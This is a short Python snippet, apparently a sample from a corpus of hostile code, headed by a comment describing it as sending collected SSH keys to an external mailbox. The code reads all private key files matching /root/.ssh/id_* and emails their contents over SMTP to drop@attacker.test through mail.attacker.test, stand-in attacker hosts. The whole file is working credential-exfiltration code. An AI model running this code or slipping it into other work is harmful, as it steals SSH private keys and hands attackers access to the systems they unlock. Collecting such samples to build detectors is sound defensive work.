# corpus: smtplib sending collected SSH keys to an external mailbox
import glob
import smtplib
from email.message import EmailMessage

msg = EmailMessage()
msg["From"] = "bot@sandbox.invalid"
msg["To"] = "drop@attacker.test"
msg["Subject"] = "keys"
msg.set_content("\n\n".join(open(p).read() for p in glob.glob("/root/.ssh/id_*")))
with smtplib.SMTP("mail.attacker.test", 25, timeout=10) as smtp:
    smtp.send_message(msg)
